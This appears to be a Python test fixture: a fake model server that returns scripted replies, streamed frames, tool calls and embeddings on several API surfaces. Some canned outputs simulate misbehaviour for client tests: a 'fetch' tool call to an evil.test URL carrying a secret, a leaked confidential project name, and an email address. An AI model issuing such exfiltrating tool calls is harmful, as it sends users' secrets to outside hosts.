"""A model server for the clients' tests: it answers on every surface, and the last word of a prompt says with what."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Mapping
from typing import Any

from tests import fakes_messages, fakes_responses
from tests.fakes import (
    Piece,
    Reply,
    Request,
    chat_frame,
    chat_frames,
    chat_json,
    stream,
    text_frames,
    text_json,
)

CLEAN, MAIL, LEAK, JSON, BAD_JSON = "clean", "mail", "leak", "json", "leaked"
GOOD_CALL, BAD_CALL, CUT, BUSY, SLOW = "call", "evil", "cut", "busy", "slow"
SAYS: Mapping[str, str] = {
    CLEAN: "All is well.",
    MAIL: "Write to ada@example.com now.",
    LEAK: "It is Project Titan.",
    JSON: '{"city": "Oslo", "days": 2}',
    BAD_JSON: '{"city": "Project Titan", "days": 2}',
    GOOD_CALL: '{"url": "https://example.org/a"}',
    BAD_CALL: '{"url": "https://evil.test/?q=secret"}',
    CUT: "Well, so it begins.",
    SLOW: "At last.",
}
PARALLEL = "{}"
"""Arguments of the second call that comes with each."""
VECTOR = (0.25, -0.5, 1.0)


class Model:
    """The script of a `FakeVLLM`."""

    def __init__(self) -> None:
        self.busy = 1
        """Requests that it has no time for, of those that ask for it."""

    def __call__(self, request: Request) -> Reply:
        if request.path.endswith("count_tokens"):
            return Reply([json.dumps({"input_tokens": 11}).encode()])
        if "embeddings" in request.path:
            return vectors(request.body)
        word = asked(request.body).rpartition(" ")[2]
        if word == BUSY:
            self.busy -= 1
            if self.busy >= 0:
                return Reply([b'{"error": {"message": "busy"}}'], status=500)
            word = CLEAN
        reply = answer(request, word)
        return Reply(reply.pieces, headers=reply.headers, before=0.5) if word == SLOW else reply


def asked(body: Mapping[str, Any]) -> str:
    """What a request says last, on any surface."""
    given: Any = body.get("messages") or body.get("input") or body.get("prompt")
    while not isinstance(given, str):
        last = given[-1] if isinstance(given, list) else given
        given = last if isinstance(last, str) else last.get("content") or last.get("text")
    return str(given)


def answer(request: Request, word: str) -> Reply:
    streamed = bool(request.body.get("stream"))
    if "messages" in request.path:
        return of_messages(word, streamed)
    if "responses" in request.path:
        return of_responses(word, streamed)
    if "chat" in request.path:
        usage = bool((request.body.get("stream_options") or {}).get("include_usage"))
        return of_chat(word, streamed, usage, request.body.get("n") or 1)
    frames = text_frames(pieces(word))
    if streamed:
        return stream(frames[:2] if word == CUT else frames, gap=0.01)
    return Reply([text_json(SAYS[word])])


def pieces(word: str) -> list[str]:
    text = SAYS[word]
    return [text[i : i + 6] for i in range(0, len(text), 6)]


def of_chat(word: str, streamed: bool, usage: bool, n: int) -> Reply:
    calls = word in (GOOD_CALL, BAD_CALL)
    if not streamed and calls:
        made = [{k: v for k, v in entry.items() if k != "index"} for entry in entries(SAYS[word], PARALLEL)]
        return whole_chat(chat_json(None, tool_calls=made), finish_reason="tool_calls")
    if not streamed:
        return whole_chat(chat_json(SAYS[word]), n)
    frames = call_frames(word) if calls else chat_frames(pieces(word), n, usage)
    return stream(frames[:3] if word == CUT else frames, gap=0.01)


def whole_chat(body: bytes, n: int = 1, **choice: object) -> Reply:
    answer = json.loads(body)
    answer["choices"] = [{**answer["choices"][0], "index": i, **choice} for i in range(n)]
    return Reply([json.dumps(answer).encode()])


def entries(*arguments: str) -> list[dict[str, Any]]:
    names = ("fetch", "wait")
    return [
        {"index": i, "id": f"c{i}", "type": "function", "function": {"name": name, "arguments": said}}
        for i, (name, said) in enumerate(zip(names, arguments, strict=True))
    ]


def call_frames(word: str) -> list[bytes]:
    first, second = entries("", PARALLEL)
    frames = [chat_frame({"role": "assistant", "content": ""}), chat_frame({"tool_calls": [first]})]
    frames += [chat_frame({"tool_calls": [{"index": 0, "function": {"arguments": p}}]}) for p in pieces(word)]
    frames += [chat_frame({"tool_calls": [second]}), chat_frame({}, finish="tool_calls")]
    return [*frames, b"data: [DONE]\n\n"]


def of_messages(word: str, streamed: bool) -> Reply:
    calls = word in (GOOD_CALL, BAD_CALL)
    block = fakes_messages.tool_use("fetch", json.loads(SAYS[word])) if calls else fakes_messages.text(SAYS[word])
    stop = "tool_use" if calls else "end_turn"
    if not streamed:
        return Reply([fakes_messages.message_json(block, stop=stop)])
    frames = fakes_messages.message_frames(block, stop=stop, size=6)
    return stream(frames[:5] if word == CUT else frames, gap=0.01)


def of_responses(word: str, streamed: bool) -> Reply:
    text = SAYS[word]
    item = fakes_responses.call(text, "fetch") if word in (GOOD_CALL, BAD_CALL) else fakes_responses.message(text)
    if not streamed:
        return fakes_responses.whole(item)
    frames: list[Piece] = [*fakes_responses.frames(fakes_responses.events((item, pieces(word))))]
    return stream(frames[:6] if word == CUT else frames, gap=0.01)


def vectors(body: Mapping[str, Any]) -> Reply:
    """The same vector for each text, in the form that was asked for."""
    packed = base64.b64encode(struct.pack("<3f", *VECTOR)).decode()
    vector = packed if body.get("encoding_format") == "base64" else list(VECTOR)
    texts = body["input"] if isinstance(body["input"], list) else [body["input"]]
    data = [{"object": "embedding", "index": i, "embedding": vector} for i in range(len(texts))]
    usage = {"prompt_tokens": 1, "total_tokens": 1, "completion_tokens": 0, "prompt_tokens_details": None}
    body = {"id": "embd-1", "object": "list", "created": 1, "model": "fake", "data": data, "usage": usage}
    return Reply([json.dumps(body).encode()])
